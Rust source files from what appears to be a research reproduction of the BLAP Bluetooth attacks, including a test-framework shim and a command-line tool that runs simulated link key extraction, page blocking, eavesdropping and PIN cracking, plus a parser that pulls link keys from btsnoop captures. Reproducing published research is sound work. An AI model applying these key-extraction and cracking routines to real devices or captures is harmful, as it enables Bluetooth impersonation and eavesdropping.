impl_tuple_strategy!(A, B, C, D, E, F, G);
impl_tuple_strategy!(A, B, C, D, E, F, G, H);

/// Strategy produced by [`crate::arbitrary::any`].
pub struct Any<T> {
    pub(crate) _marker: PhantomData<T>,
}

impl<T: crate::arbitrary::Arbitrary> Strategy for Any<T> {
    type Value = T;
    fn generate(&self, rng: &mut TestRng) -> T {
        T::arbitrary(rng)
    }
}
