//! `any::<T>()` and the [`Arbitrary`] implementations the suites use.

use std::marker::PhantomData;

use rand::Rng;

use crate::strategy::Any;
use crate::test_runner::TestRng;

/// Types with a canonical uniform strategy.
pub trait Arbitrary {
    /// Draws one uniformly distributed value.
    fn arbitrary(rng: &mut TestRng) -> Self;
}

/// The canonical strategy for `T`.
pub fn any<T: Arbitrary>() -> Any<T> {
    Any {
        _marker: PhantomData,
    }
}

macro_rules! impl_arbitrary_int {
    ($($t:ty),*) => {$(
        impl Arbitrary for $t {
            fn arbitrary(rng: &mut TestRng) -> Self {
                rng.next_u64() as $t
            }
        }
    )*};
}
impl_arbitrary_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Arbitrary for bool {
    fn arbitrary(rng: &mut TestRng) -> Self {
        rng.next_u64() & 1 == 1
    }
}

impl Arbitrary for f64 {
    fn arbitrary(rng: &mut TestRng) -> Self {
        rng.rng().gen_range(0.0f64..1.0)
    }
}

impl<const N: usize> Arbitrary for [u8; N] {
    fn arbitrary(rng: &mut TestRng) -> Self {
        let mut out = [0u8; N];
        rng.rng().fill(&mut out);
        out
    }
}
