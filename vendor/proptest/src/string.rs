//! A character-class subset of proptest's regex string strategies.
//!
//! Supports exactly the pattern shapes the workspace uses: sequences of
//! literal characters and character classes (`[a-zA-Z0-9 ]`), each with an
//! optional `{n}` or `{m,n}` repetition count.

use crate::test_runner::TestRng;

#[derive(Debug)]
enum Atom {
    Literal(char),
    Class(Vec<(char, char)>),
}

/// Generates one string matching `pattern`.
///
/// # Panics
///
/// Panics on syntax outside the supported subset, so an unsupported
/// pattern fails loudly instead of generating garbage.
pub fn generate_from_pattern(pattern: &str, rng: &mut TestRng) -> String {
    let mut out = String::new();
    let mut chars = pattern.chars().peekable();
    while let Some(c) = chars.next() {
        let atom = match c {
            '[' => {
                let mut ranges = Vec::new();
                loop {
                    let lo = chars
                        .next()
                        .unwrap_or_else(|| panic!("unterminated class in pattern {pattern:?}"));
                    if lo == ']' {
                        break;
                    }
                    if chars.peek() == Some(&'-') {
                        chars.next();
                        let hi = chars
                            .next()
                            .unwrap_or_else(|| panic!("unterminated range in pattern {pattern:?}"));
                        assert!(lo <= hi, "inverted range in pattern {pattern:?}");
                        ranges.push((lo, hi));
                    } else {
                        ranges.push((lo, lo));
                    }
                }
                assert!(!ranges.is_empty(), "empty class in pattern {pattern:?}");
                Atom::Class(ranges)
            }
            '\\' => Atom::Literal(
                chars
                    .next()
                    .unwrap_or_else(|| panic!("trailing escape in pattern {pattern:?}")),
            ),
            ']' | '{' | '}' | '(' | ')' | '|' | '*' | '+' | '?' | '.' => {
                panic!("unsupported regex syntax {c:?} in pattern {pattern:?}")
            }
            other => Atom::Literal(other),
        };
        // Optional repetition: {n} or {m,n}.
        let (min, max) = if chars.peek() == Some(&'{') {
            chars.next();
            let mut spec = String::new();
            for d in chars.by_ref() {
                if d == '}' {
                    break;
                }
                spec.push(d);
            }
            match spec.split_once(',') {
                Some((m, n)) => (
                    m.trim().parse().expect("repetition lower bound"),
                    n.trim().parse().expect("repetition upper bound"),
                ),
                None => {
                    let n: usize = spec.trim().parse().expect("repetition count");
                    (n, n)
                }
            }
        } else {
            (1usize, 1usize)
        };
        assert!(min <= max, "inverted repetition in pattern {pattern:?}");
        let count = min + rng.below(max - min + 1);
        for _ in 0..count {
            match &atom {
                Atom::Literal(ch) => out.push(*ch),
                Atom::Class(ranges) => {
                    let total: u32 = ranges
                        .iter()
                        .map(|(lo, hi)| *hi as u32 - *lo as u32 + 1)
                        .sum();
                    let mut pick = rng.below(total as usize) as u32;
                    for (lo, hi) in ranges {
                        let span = *hi as u32 - *lo as u32 + 1;
                        if pick < span {
                            out.push(char::from_u32(*lo as u32 + pick).expect("valid char"));
                            break;
                        }
                        pick -= span;
                    }
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn generates_matching_strings() {
        let mut rng = TestRng::for_case("string_shim", 0);
        for _ in 0..200 {
            let s = generate_from_pattern("[g-z]{32}", &mut rng);
            assert_eq!(s.len(), 32);
            assert!(s.chars().all(|c| ('g'..='z').contains(&c)));

            let s = generate_from_pattern("[a-zA-Z0-9 ]{0,32}", &mut rng);
            assert!(s.len() <= 32);
            assert!(s.chars().all(|c| c.is_ascii_alphanumeric() || c == ' '));
        }
    }

    #[test]
    fn literals_and_counts() {
        let mut rng = TestRng::for_case("string_shim_lit", 0);
        assert_eq!(generate_from_pattern("ab", &mut rng), "ab");
        assert_eq!(generate_from_pattern("a{3}b", &mut rng), "aaab");
    }
}
