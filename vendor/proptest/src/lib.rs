//! Offline shim for the subset of the `proptest` API this workspace uses.
//!
//! crates.io is unreachable in the build environment, so this crate
//! reimplements the pieces the property suites rely on: the [`proptest!`]
//! macro, [`strategy::Strategy`] with `prop_map`, [`arbitrary::any`],
//! range and tuple strategies, a character-class subset of string regex
//! strategies, [`collection::vec`], [`prop_oneof!`], `Just`, and the
//! `prop_assert*` / `prop_assume!` macros.
//!
//! Differences from real proptest, deliberately accepted:
//!
//! * no shrinking — a failing case reports its inputs (via the assert
//!   message) but is not minimized;
//! * `prop_assume!` skips the case instead of drawing a replacement;
//! * case generation is seeded per test name, so runs are fully
//!   deterministic (there is no persistence file and no env override).

#![forbid(unsafe_code)]

pub mod arbitrary;
pub mod collection;
pub mod strategy;
pub mod string;
pub mod test_runner;

/// Everything the property suites import.
pub mod prelude {
    pub use crate::arbitrary::any;
    pub use crate::strategy::{Just, Strategy};
    pub use crate::test_runner::ProptestConfig;
    pub use crate::{
        prop_assert, prop_assert_eq, prop_assert_ne, prop_assume, prop_oneof, proptest,
    };
}

/// Defines deterministic property tests over strategies.
///
/// Supports the forms used in this workspace:
///
/// ```ignore
/// proptest! {
///     #![proptest_config(ProptestConfig::with_cases(8))] // optional
///     #[test]
///     fn name(a in strategy_a, b in strategy_b) { body }
/// }
/// ```
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::__proptest_impl! { ($cfg) $($rest)* }
    };
    ($($rest:tt)*) => {
        $crate::__proptest_impl! { ($crate::test_runner::ProptestConfig::default()) $($rest)* }
    };
}

/// Internal expansion of [`proptest!`]: one plain `#[test]` fn per case.
#[doc(hidden)]
#[macro_export]
macro_rules! __proptest_impl {
    (($cfg:expr)) => {};
    (($cfg:expr)
     $(#[$meta:meta])*
     fn $name:ident($($arg:ident in $strat:expr),+ $(,)?) $body:block
     $($rest:tt)*) => {
        $(#[$meta])*
        fn $name() {
            let __config: $crate::test_runner::ProptestConfig = $cfg;
            for __case in 0..__config.cases {
                let mut __rng =
                    $crate::test_runner::TestRng::for_case(stringify!($name), __case);
                $(let $arg = $crate::strategy::Strategy::generate(&$strat, &mut __rng);)+
                // A closure gives `prop_assume!` an early exit per case.
                #[allow(clippy::redundant_closure_call)]
                (move || $body)();
            }
        }
        $crate::__proptest_impl! { ($cfg) $($rest)* }
    };
}

/// Picks uniformly between strategies producing the same value type.
#[macro_export]
macro_rules! prop_oneof {
    ($($strat:expr),+ $(,)?) => {{
        $crate::strategy::Union::new(vec![
            $({
                let __s = $strat;
                Box::new(move |rng: &mut $crate::test_runner::TestRng| {
                    $crate::strategy::Strategy::generate(&__s, rng)
                }) as Box<dyn Fn(&mut $crate::test_runner::TestRng) -> _>
            }),+
        ])
    }};
}

/// Asserts a condition inside a property body.
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr) => { assert!($cond) };
    ($cond:expr, $($fmt:tt)*) => { assert!($cond, $($fmt)*) };
}

/// Asserts equality inside a property body.
#[macro_export]
macro_rules! prop_assert_eq {
    ($a:expr, $b:expr) => { assert_eq!($a, $b) };
    ($a:expr, $b:expr, $($fmt:tt)*) => { assert_eq!($a, $b, $($fmt)*) };
}

/// Asserts inequality inside a property body.
#[macro_export]
macro_rules! prop_assert_ne {
    ($a:expr, $b:expr) => { assert_ne!($a, $b) };
    ($a:expr, $b:expr, $($fmt:tt)*) => { assert_ne!($a, $b, $($fmt)*) };
}

/// Skips the current case when its inputs don't satisfy a precondition.
#[macro_export]
macro_rules! prop_assume {
    ($cond:expr) => {
        if !$cond {
            return;
        }
    };
    ($cond:expr, $($fmt:tt)*) => {
        if !$cond {
            return;
        }
    };
}
