//! # BLAP reproduction — umbrella crate
//!
//! Re-exports the whole workspace under one roof for the examples and
//! integration tests. Start with [`attacks`] (the paper's contribution) and
//! [`sim`] (the simulated Bluetooth world they run against).
//!
//! | Module | Crate | What it is |
//! |---|---|---|
//! | [`types`] | `blap-types` | Addresses, link keys, IO capabilities, time |
//! | [`crypto`] | `blap-crypto` | SHA-256, HMAC, P-256 ECDH, SSP f/h functions, SAFER+/E1 |
//! | [`hci`] | `blap-hci` | HCI commands/events/packets and the H4 codec |
//! | [`snoop`] | `blap-snoop` | btsnoop dumps, USB captures, redaction mitigations |
//! | [`baseband`] | `blap-baseband` | Paging/inquiry procedures and the page race model |
//! | [`controller`] | `blap-controller` | Link Manager state machine (LMP auth, SSP) |
//! | [`host`] | `blap-host` | Host stack, key store, association policy, attacker hooks |
//! | [`sim`] | `blap-sim` | Discrete-event world, device profiles, user agents |
//! | [`attacks`] | `blap` | Link key extraction, page blocking, mitigations, reports |
//!
//! ## Five-line demo
//!
//! ```
//! use blap_repro::attacks::link_key_extraction::ExtractionScenario;
//! use blap_repro::sim::profiles;
//!
//! let report = ExtractionScenario::new(profiles::galaxy_s21(), 1).run();
//! assert!(report.vulnerable());
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub use blap as attacks;
pub use blap_baseband as baseband;
pub use blap_controller as controller;
pub use blap_crypto as crypto;
pub use blap_hci as hci;
pub use blap_host as host;
pub use blap_sim as sim;
pub use blap_snoop as snoop;
pub use blap_types as types;
