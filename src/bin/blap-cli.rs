//! `blap-cli` — one entry point for the whole reproduction.
//!
//! ```text
//! cargo run --release --bin blap-cli -- <command> [args]
//!
//! commands:
//!   extract [device] [seed]   run the link key extraction attack
//!   block [device] [trials]   run the page blocking experiment
//!   eavesdrop [seed]          sniff + decrypt an encrypted session
//!   pincrack [pin]            crack a legacy pairing PIN offline
//!   devices                   list the device catalog
//!   parse-snoop <file>        parse a btsnoop file and extract any keys
//! ```
//!
//! `device` is matched case-insensitively against the catalog names
//! (`nexus`, `v50`, `s8`, `pixel`, `velvet`, `s21`, `iphone`, `windows`,
//! `ubuntu`).

use blap::eavesdrop::EavesdropScenario;
use blap::legacy_pin::{crack_numeric_pin, LegacyPairingCapture};
use blap::link_key_extraction::ExtractionScenario;
use blap::page_blocking::PageBlockingScenario;
use blap::report;
use blap_sim::{profiles, DeviceProfile};
use blap_snoop::log::HciTrace;

fn find_profile(pattern: &str) -> Option<DeviceProfile> {
    let needle = pattern.to_ascii_lowercase();
    let all = [
        profiles::nexus_5x_a8(),
        profiles::lg_v50(),
        profiles::galaxy_s8(),
        profiles::pixel_2_xl(),
        profiles::lg_velvet(),
        profiles::galaxy_s21(),
        profiles::iphone_xs(),
        profiles::windows_ms_driver(),
        profiles::windows_csr_harmony(),
        profiles::ubuntu_bluez(),
    ];
    all.into_iter().find(|p| {
        p.name.to_ascii_lowercase().contains(&needle) || p.os.to_ascii_lowercase().contains(&needle)
    })
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let command = args.first().map(String::as_str).unwrap_or("help");
    match command {
        "extract" => {
            let profile = args
                .get(1)
                .and_then(|p| find_profile(p))
                .unwrap_or_else(profiles::galaxy_s8);
            let seed = args.get(2).and_then(|s| s.parse().ok()).unwrap_or(2022);
            println!("extracting from {} ({})...", profile.name, profile.os);
            let report = ExtractionScenario::new(profile, seed).run();
            println!(
                "channel      : {}",
                opt(report.channel.map(|c| c.to_string()))
            );
            println!(
                "key          : {}",
                opt(report.extracted_key.map(|k| k.to_hex()))
            );
            println!("key matches  : {}", report.key_matches);
            println!("bond intact  : {}", report.victim_bond_intact);
            println!("impersonation: {}", report.impersonation_validated);
            println!(
                "verdict      : {}",
                if report.vulnerable() {
                    "VULNERABLE"
                } else {
                    "not vulnerable"
                }
            );
        }
        "block" => {
            let profile = args
                .get(1)
                .and_then(|p| find_profile(p))
                .unwrap_or_else(profiles::pixel_2_xl);
            let trials = args.get(2).and_then(|s| s.parse().ok()).unwrap_or(25);
            println!(
                "page blocking vs {} ({}), {trials} trials per condition...",
                profile.name, profile.os
            );
            let mut scenario = PageBlockingScenario::new(profile, 2022);
            scenario.trials = trials;
            let row = scenario.run();
            print!("{}", report::table2(&[row]));
        }
        "eavesdrop" => {
            let seed = args.get(1).and_then(|s| s.parse().ok()).unwrap_or(2022);
            let scenario = EavesdropScenario::new(seed);
            let report = scenario.run();
            println!(
                "captured {} encrypted frames; key {}; recovered {}/{} secrets",
                report.captured_encrypted_frames,
                opt(report.stolen_key.map(|k| k.to_hex())),
                report.decrypted_secrets.len(),
                scenario.secrets.len()
            );
            for s in &report.decrypted_secrets {
                println!("  {:?}", String::from_utf8_lossy(s));
            }
        }
        "pincrack" => {
            let pin = args.get(1).cloned().unwrap_or_else(|| "1234".to_owned());
            let capture = LegacyPairingCapture::synthesize(
                "11:11:11:11:11:11".parse().expect("valid address"),
                "00:1b:7d:da:71:0a".parse().expect("valid address"),
                pin.as_bytes(),
                [0xA1; 16],
                [0xB2; 16],
                [0xC3; 16],
                [0xD4; 16],
            );
            match crack_numeric_pin(&capture, 6) {
                Some(result) => println!(
                    "cracked PIN {:?} in {} attempts; key {}",
                    String::from_utf8_lossy(&result.pin),
                    result.attempts,
                    result.link_key
                ),
                None => println!("not in the numeric search space"),
            }
        }
        "devices" => {
            println!(
                "{:<16} {:<14} {:<28} {:<10} {:<8}",
                "Device", "OS", "Stack", "Transport", "Baseline"
            );
            for p in profiles::table1_profiles() {
                println!(
                    "{:<16} {:<14} {:<28} {:<10} {:<8}",
                    p.name,
                    p.os,
                    p.stack.to_string(),
                    format!("{:?}", p.transport),
                    p.baseline_mitm_rate
                        .map(|r| format!("{:.0}%", r * 100.0))
                        .unwrap_or_else(|| "-".to_owned()),
                );
            }
            println!(
                "{:<16} {:<14} {:<28} {:<10} {:<8}",
                "iPhone Xs", "iOS 14.4.2", "iOS Bluetooth", "H4Uart", "52%"
            );
        }
        "parse-snoop" => {
            let Some(path) = args.get(1) else {
                eprintln!("usage: blap-cli parse-snoop <file.btsnoop>");
                std::process::exit(2);
            };
            let bytes = match std::fs::read(path) {
                Ok(bytes) => bytes,
                Err(err) => {
                    eprintln!("cannot read {path}: {err}");
                    std::process::exit(1);
                }
            };
            match HciTrace::from_btsnoop_bytes(&bytes) {
                Ok(trace) => {
                    println!("{} packets", trace.len());
                    print!("{}", blap_snoop::pretty::frame_table(&trace));
                    let keys = trace.extract_link_keys();
                    if keys.is_empty() {
                        println!("\nno link keys in this capture");
                    } else {
                        println!("\nlink keys found:");
                        for (addr, key) in keys {
                            println!("  {addr} -> {key}");
                        }
                    }
                }
                Err(err) => {
                    eprintln!("parse error: {err}");
                    std::process::exit(1);
                }
            }
        }
        _ => {
            println!(
                "blap-cli — BLAP (DSN 2022) reproduction\n\n\
                 usage: blap-cli <command> [args]\n\n\
                 commands:\n\
                 \x20 extract [device] [seed]   link key extraction attack\n\
                 \x20 block [device] [trials]   page blocking experiment\n\
                 \x20 eavesdrop [seed]          sniff + decrypt with a stolen key\n\
                 \x20 pincrack [pin]            legacy PIN brute force\n\
                 \x20 devices                   list the device catalog\n\
                 \x20 parse-snoop <file>        inspect a btsnoop capture\n\n\
                 tables/figures: see `cargo run -p blap-bench --bin <table1|table2|fig3|fig7|fig11|fig12|mitigations|ablation>`"
            );
        }
    }
}

fn opt(value: Option<String>) -> String {
    value.unwrap_or_else(|| "-".to_owned())
}
